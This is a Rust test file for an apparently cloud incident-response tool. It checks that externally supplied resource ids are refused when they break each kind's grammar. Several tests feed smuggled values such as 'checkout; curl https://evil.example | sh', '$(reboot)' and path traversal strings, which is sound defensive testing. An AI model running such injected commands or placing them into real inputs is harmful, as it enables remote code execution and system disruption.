//! Resource ids written by outsiders (alarm dimensions, CloudTrail request parameters, alert
//! labels, Argus events, model proposals) are checked against their kind's grammar: a signal
//! naming an invalid resource is an `InvalidEvent` naming the field, and no action targets one.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use argus::catalogue;
use argus::config::{Config, SignalConfig};
use argus::resource::ResourceRef;
use argus::signal::{NormaliseError, Normalised, normalise};
use serde_json::{Value, json};
use std::path::PathBuf;

fn sample(path: &str) -> Value {
    let file = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../events")
        .join(path);
    serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap()
}

/// The event is refused as invalid, and the error names `field`.
fn assert_refused_naming(event: &Value, field: &str) {
    match normalise(event, &SignalConfig::default()) {
        Err(error @ NormaliseError::InvalidField { .. }) => {
            assert_eq!(error.error_type(), "InvalidEvent");
            assert!(
                error.to_string().contains(field),
                "the error should name `{field}`: {error}"
            );
        }
        other => panic!("expected InvalidEvent naming `{field}`, got {other:?}"),
    }
}

fn resource_of(event: &Value) -> String {
    match normalise(event, &SignalConfig::default()).unwrap() {
        Normalised::Signals(signals) => signals[0].resource.to_string(),
        other => panic!("expected a signal, got {other:?}"),
    }
}

#[test]
fn attack_path_traversal_in_an_ec2_state_change_is_refused() {
    let mut event = sample("ec2-state-change/stopped.json");
    event["detail"]["instance-id"] = json!("i-0aaa/../../x");
    assert_refused_naming(&event, "detail.instance-id");
}

#[test]
fn attack_instance_dimension_with_traversal_is_refused_not_read_as_an_instance() {
    let mut event = sample("cloudwatch-alarm/eventbridge-status-check-failed-ALARM.json");
    event["detail"]["configuration"]["metrics"][0]["metricStat"]["metric"]["dimensions"]["InstanceId"] =
        json!("i-0aaa/../../x");
    assert_refused_naming(&event, "InstanceId");
}

#[test]
fn attack_function_dimension_with_shell_metacharacters_is_refused() {
    let mut event = sample("cloudwatch-alarm/eventbridge-status-check-failed-ALARM.json");
    event["detail"]["configuration"]["metrics"][0]["metricStat"]["metric"]["dimensions"] =
        json!({"FunctionName": "checkout; curl https://evil.example | sh"});
    assert_refused_naming(&event, "FunctionName");
}

#[test]
fn attack_cloudtrail_instance_id_with_a_command_substitution_is_refused() {
    let mut event = sample("cloudtrail/ec2-StopInstances.json");
    event["detail"]["requestParameters"]["instancesSet"]["items"][0]["instanceId"] =
        json!("i-1234567890abcdef0 $(reboot)");
    assert_refused_naming(&event, "instanceId");
}

#[test]
fn attack_external_alert_naming_a_traversal_resource_is_refused() {
    let mut event = sample("argus/external-alert-firing.json");
    event["detail"]["resource"] = json!("ec2:instance/i-0aaa/../../x");
    assert_refused_naming(&event, "detail.resource");
}

#[test]
fn attack_log_anomaly_naming_a_resource_with_spaces_is_refused() {
    let mut event = sample("argus/log-anomaly.json");
    event["detail"]["resource"] = json!("autoscaling:group/web tier");
    assert_refused_naming(&event, "detail.resource");
}

#[test]
fn real_ids_of_every_kind_are_accepted() {
    let mut event = sample("argus/external-alert-firing.json");
    for resource in [
        "ec2:instance/i-1234567890abcdef0",
        "ec2:instance/i-1a2b3c4d",
        "ecs:service/prod/checkout",
        "ecs:cluster/prod_east-1",
        "lambda:function/checkout-api_v2",
        "autoscaling:group/web.tier-1",
        "dynamodb:table/orders.v2",
        "rds:db/orders-db",
        "sqs:queue/orders.fifo",
        "logs:log-group//aws/lambda/checkout",
        "ssm:parameter//checkout/prod/payment-timeout-ms",
        "s3:bucket/checkout-receipts-123456789012",
        "external:alertmanager/a1bc48475b20e73d",
    ] {
        event["detail"]["resource"] = json!(resource);
        assert_eq!(resource_of(&event), resource);
    }
}

#[test]
fn ids_outside_their_kinds_grammar_are_refused() {
    let mut event = sample("argus/external-alert-firing.json");
    for resource in [
        "ec2:instance/i-0abc",
        "ec2:instance/i-1234567890ABCDEF0",
        "ec2:instance/i-1234567890abcdef0/x",
        "ecs:service/prod",
        "ecs:service/prod/check out",
        "lambda:function/checkout:prod",
        "lambda:function/a`id`",
        "autoscaling:group/web:1",
        "dynamodb:table/ab",
        "rds:db/1orders",
        "rds:db/orders--db",
        "sqs:queue/orders$queue",
        "logs:log-group//aws/lambda/check out",
        "s3:bucket/Receipts",
        "external:alertmanager/a;b",
        "external:alertmanager/../x",
    ] {
        event["detail"]["resource"] = json!(resource);
        assert_refused_naming(&event, "detail.resource");
    }
}

#[test]
fn attack_action_parameters_outside_the_grammar_never_target_anything() {
    let config = Config::default();
    // A lenient reference (as a record read back from before validation might hold) must not
    // let an action through: the parameters are checked on their own.
    let incident = ResourceRef::parse("ec2:instance/i-0aaa/../../x").unwrap();
    let refused = catalogue::validate(
        "ec2.reboot",
        &json!({"instance_id": "i-0aaa/../../x"}),
        &incident,
        &config,
    );
    assert!(refused.is_err(), "{refused:?}");

    let incident = ResourceRef::parse("s3:bucket/receipts;curl evil|sh").unwrap();
    let refused = catalogue::validate(
        "codebuild.terraform_apply",
        &json!({"project_name": "infra-apply", "resource": "s3:bucket/receipts;curl evil|sh"}),
        &incident,
        &config,
    );
    assert!(refused.is_err(), "{refused:?}");
}
